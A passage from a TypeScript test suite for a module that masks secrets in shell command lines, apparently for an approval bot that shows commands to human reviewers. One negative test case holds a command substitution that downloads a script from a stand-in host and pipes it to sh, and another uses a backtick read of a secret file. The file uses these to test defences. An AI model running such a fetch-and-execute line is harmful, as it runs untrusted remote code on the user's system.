      'env:PASSPHRASE',
    ]);
    expect(argv(['zip', '-P', 'Hunter2', 'a.zip'])).toEqual(['zip', '-P', S, 'a.zip']);
    expect(argv(['7z', 'a', '-pHunter2'])).toEqual(['7z', 'a', `-p${S}`]);
    expect(argv(['smbclient', '-U', 'alice%Hunter2'])).toEqual(['smbclient', '-U', `alice%${S}`]);
    expect(argv(['smbclient', '-U', 'alice'])).toEqual(['smbclient', '-U', 'alice']);
    expect(argv(['ssh-keygen', '-N', 'Hunter2'])).toEqual(['ssh-keygen', '-N', S]);
    expect(argv(['rclone', 'config', 'create', 'r', 's3', 'secret_access_key', 'Hunter2'])).toEqual([
      'rclone',
      'config',
      'create',
      'r',
      's3',
      'secret_access_key',
      S,
    ]);
  });
});

describe('argvSecrets: a word secret for where it stands', () => {
  const cases: Array<[string, string[], Array<string | undefined>]> = [
    ['after --password', ['deploy', '--password', 'hunter2'], [undefined, undefined, S]],
    ['after --client-secret', ['x', '--client-secret', 's'], [undefined, undefined, S]],
    [
      'after aws_secret_access_key',
      ['aws', 'configure', 'set', 'aws_secret_access_key', 'k'],
      [undefined, undefined, undefined, undefined, S],
    ],
    ['mysql -p glued', ['mysql', '-uroot', '-phunter2', 'shop'], [undefined, undefined, `-p${S}`, undefined]],
    [
      'curl -u user:password',
      ['/usr/bin/curl', '-u', 'admin:hunter2', 'https://x'],
      [undefined, undefined, `admin:${S}`, undefined],
    ],
    ['curl --user=', ['curl', '--user=admin:hunter2'], [undefined, `--user=admin:${S}`]],
    ['curl -b cookie', ['curl', '-b', 'session=abc'], [undefined, undefined, S]],
    [
      'sshpass -p',
      ['sshpass', '-p', 'hunter2', 'ssh', 'host'],
      [undefined, undefined, S, undefined, undefined],
    ],
    ['redis-cli -a', ['redis-cli', '-a', 'hunter2'], [undefined, undefined, S]],
    [
      'docker login -p',
      ['docker', 'login', '-u', 'bot', '-p', 'hunter2', 'reg'],
      [undefined, undefined, undefined, undefined, undefined, S, undefined],
    ],
    ['podman login -p glued', ['/usr/bin/podman', 'login', '-phunter2'], [undefined, undefined, `-p${S}`]],
    [
      'helm registry login -p',
      ['helm', 'registry', 'login', '-p', 'hunter2'],
      [undefined, undefined, undefined, undefined, S],
    ],
    [
      'htpasswd -b',
      ['/usr/bin/htpasswd', '-bB', '-C', '10', 'f', 'user', 'hunter2'],
      [undefined, undefined, undefined, undefined, undefined, undefined, S],
    ],
    ['htpasswd -nb', ['htpasswd', '-nb', 'user', 'hunter2'], [undefined, undefined, undefined, S]],
    [
      'docker login -p after a global option and its value',
      ['docker', '--config', '/x', 'login', '-p', 'hunter2'],
      [undefined, undefined, undefined, undefined, undefined, S],
    ],
    [
      'htdbm -b',
      ['/usr/bin/htdbm', '-b', 'f', 'user', 'hunter2'],
      [undefined, undefined, undefined, undefined, S],
    ],
    [
      'htdbm -T and its DBM type, -nb',
      ['htdbm', '-T', 'SDBM', '-nb', 'user', 'hunter2'],
      [undefined, undefined, undefined, undefined, undefined, S],
    ],
    [
      'vault login and its token',
      ['vault', 'login', 's.Xq3LmT9pR2vK8wY1zN4bH6cD'],
      [undefined, undefined, V],
    ],
    [
      'vault login and its token after -method and its value',
      ['/usr/bin/vault', 'login', '-method', 'token', '-no-store', 'root'],
      [undefined, undefined, undefined, undefined, undefined, S],
    ],
    [
      'vault login secret_id= and password=',
      ['vault', 'login', '-method=approle', 'role_id=r', 'secret_id=6f1e', 'password=hunter2'],
      [undefined, undefined, undefined, undefined, `secret_id=${S}`, `password=${S}`],
    ],
    [
      'a token after a flag, by its shape',
      ['deploy', '--token', FAKE_GITHUB_TOKEN],
      [undefined, undefined, '[masked github-token]'],
    ],
  ];
  for (const [what, argv, expected] of cases) {
    it(`masks ${what}`, () => {
      expect(argvSecrets(argv)).toEqual(expected);
    });
  }

  const negatives: Array<[string, unknown[]]> = [
    ['a password file', ['psql', '--password-file', '/run/x']],
    ['a flag after a secret flag', ['deploy', '--password', '--verbose']],
    ['a reference', ['deploy', '--token', '$TOKEN']],
    ['-p as a port', ['ssh', '-p', '2222', 'host']],
    ['-p of mysql alone', ['mysql', '-p', 'shop']],
    ['-u of docker', ['docker', 'run', '-u', '1000:1000', 'img']],
    ['-p of docker run', ['docker', 'run', '-p', '8080:80', 'img']],
    ['-p of docker run, login after it', ['docker', 'run', '-p', '8080:80', 'img', 'login']],
    ['-p of cf push', ['cf', 'push', 'app', '-p', './build']],
    [
      '-p of docker run, login the value of --name',
      ['docker', 'run', '--name', 'login', '-p', '80:80', 'nginx'],
    ],
    ['htdbm without -b', ['htdbm', '-c', 'f', 'user']],
    ['vault login that prompts', ['vault', 'login', '-method=userpass', 'username=u']],
    ['vault login reading stdin', ['vault', 'login', '-']],
    ['vault read', ['vault', 'read', 'login']],
    ['htpasswd without -b', ['htpasswd', '-c', 'f', 'user']],
    ['htpasswd -b without its password', ['htpasswd', '-b', 'f', 'user']],
    ['curl -u without a password', ['curl', '-u', 'admin', 'https://x']],
    ['items that are not strings', ['--password', 42, null, { x: 1 }]],
    // An argv word may reach a shell that runs it (`sh -c 'eval "$2"' _ --token …`), and the
    // bot cannot tell: a word that reads as code stays in view.
    ['a command substitution', ['deploy', '--token', '$(curl -s https://evil.example/x.sh | sh)']],
    ['backticks', ['mysql', '-p`cat /run/p`', 'shop']],
  ];
  for (const [what, argv] of negatives) {
    it(`leaves ${what} alone`, () => {
      expect(argvSecrets(argv)).toEqual(argv.map(() => undefined));
    });
  }

  it('reads only a bounded part of each word, however long', () => {
    const huge = `admin:${'x'.repeat(4_000_000)}`;
    const argv = ['curl', ...Array.from({ length: 2_000 }, () => ['-u', huge]).flat()];
    const started = performance.now();
    const masked = argvSecrets(argv);
    expect(performance.now() - started).toBeLessThan(1_000);
    expect(masked[2]).toBe(`admin:${S}`);
  });

  it('reads a bounded number of words after each program name, however many', () => {
    const option = JSON.parse(JSON.stringify(`--x${'y'.repeat(100_000)}`)) as string;
    const argv = Array.from({ length: 10_000 }, (_, i) => (i % 2 === 0 ? 'docker' : option));
    const started = performance.now();
    argvSecrets([...argv, 'login', '-p', 'hunter2']);
    expect(performance.now() - started).toBeLessThan(1_000);
  });
});

describe('intake: an argv whose words come apart', () => {
  const stage = (argv: string[]) => ({
    requirementId: { approvalId: 'a', sourceIndex: 0 },
    position: 1,
    totalStages: 1,
    argv,
    resolution: { kind: 'unresolved' as const },
    suggestedPrefix: { argvPrefix: argv, label: 'prefix' },
  });

  it('masks and counts each secret word of a stage, its suggested prefix and an array of unknown shape', () => {
    const argv = ['mysql', '--password', 'hunter2', '-phunter3', 'shop'];
    const { subject, report } = takeSubject(
      { kind: 'shell', command: 'x', stages: [stage(argv)], other: { argv: ['curl', '-u', 'a:hunter4'] } },
      0,
    );
    const masked = ['mysql', '--password', S, `-p${S}`, 'shop'];
    expect(subject.stages![0]!.argv).toEqual(masked);
    expect(subject.stages![0]!.suggestedPrefix!.argvPrefix).toEqual(masked);
    expect((subject as unknown as { other: { argv: string[] } }).other.argv).toEqual([
      'curl',
      '-u',
      `a:${S}`,
    ]);
    expect(JSON.stringify(subject)).not.toMatch(/hunter[234]/);
    expect(report.maskedSecrets).toBe(5);
  });

  // A request whose stored text had a secret masked is offered no grant (grants/capabilities.ts,
  // "secrets were masked"): the shapes masked since count as every other.
  it('counts a secret of a word with quoted parts, of cf auth and of vault login -mfa as masked', () => {
    for (const command of [
      'deploy --password=abc"def ghi"jkl',
      'cf auth admin hunter2',
      'vault login -method=userpass -mfa=totp:123456 username=bob',
    ]) {
      const { subject, report } = takeSubject({ kind: 'shell', command }, 0);
      expect(JSON.stringify(subject)).not.toMatch(/ghi|hunter2|123456/);
      expect(report.maskedSecrets).toBe(1);
    }
  });

  it('masks them the same in the full text kept for "View full"', () => {
    const full = takeFullSubject({
      kind: 'shell',
      command: 'x',
      stages: [stage(['deploy', '--token', 'hunter2'])],
    });
    // A stage's words are shown as grants write them: the marker holds a space, so it is quoted.
    expect(full.parts.find((p) => p.label === 'Stages')?.text).toBe(`1/1  deploy --token "${S}"`);
  });
});

describe('maskCommandLine: MSP_HOST_COMMAND', () => {
  it('masks a program flag it did not know before, and still leaves ports alone', () => {
    expect(maskCommandLine('mysql -phunter2 -P 3306 && ssh -p 2222 host')).toBe(
      `mysql -p${S} -P 3306 && ssh -p 2222 host`,
    );
  });

  // The log line is read by no approver: masking more is the safe side there.
  it('masks a value that holds a substitution too', () => {
    expect(maskCommandLine(`serve --password '$(x' --token "a\`b"`)).toBe(
      `serve --password '${S}' --token "${S}"`,
    );
  });

  it('masks the password of docker login, and leaves the port of docker run', () => {
    expect(maskCommandLine('docker login -u bot -p Passw0rdXY reg')).not.toContain('Passw0rdXY');
    expect(maskCommandLine('docker run -p 8080:80 img')).toBe('docker run -p 8080:80 img');
  });
});

describe('masking is idempotent', () => {
  it('masks no marker again, vault login’s password= included', () => {
    const text = `vault login -method=userpass username=u password=${S}`;
    expect(maskSecrets(text)).toEqual({ text, count: 0 });
    expect(maskSecrets(`vault login password=${S}`)).toEqual({ text: `vault login password=${S}`, count: 0 });
    expect(maskCommandLine('vault login password=hunter2')).toBe(`vault login password=${S}`);
  });

  it('masks every example of this file twice as once', () => {
    expect(EXAMPLES.length).toBeGreaterThan(100);
    for (const example of EXAMPLES) {
      const once = maskSecrets(example).text;
      expect(maskSecrets(once), example).toEqual({ text: once, count: 0 });
      const logged = maskCommandLine(example);
      expect(maskCommandLine(logged), example).toBe(logged);
    }
  });
});

describe('masking keeps the shell structure', () => {
  /**
   * The operators and substitutions of `text` as the shell reads them, roughly: what a
   * single-quoted string holds is literal, a double-quoted one only substitutes.
   */
  function structure(text: string): string[] {
    const unquoted = text.replace(/'[^'\n]*'|"(?:[^"\\\n]|\\.)*"/g, (quoted) =>
      quoted.startsWith("'") ? ' ' : ` ${(quoted.match(/\$\(|`/g) ?? []).join(' ')} `,
    );
    return unquoted.match(/\$\(|[<>]\(|[;|&`\n]/g) ?? [];
  }

  // maskCommandLine is left out: it masks the MSP_HOST_COMMAND log line, never a card, and there
  // masking too much is the safe side.
  it('hides no operator or substitution of any example, nor of an input that once hid code', () => {
    const inputs = [...EXAMPLES, ...CODE_HIDING_INPUTS.map(([, input]) => input)];
    for (const input of inputs) {
      expect(structure(maskSecrets(input).text), input).toEqual(structure(input));
    }
  });
});
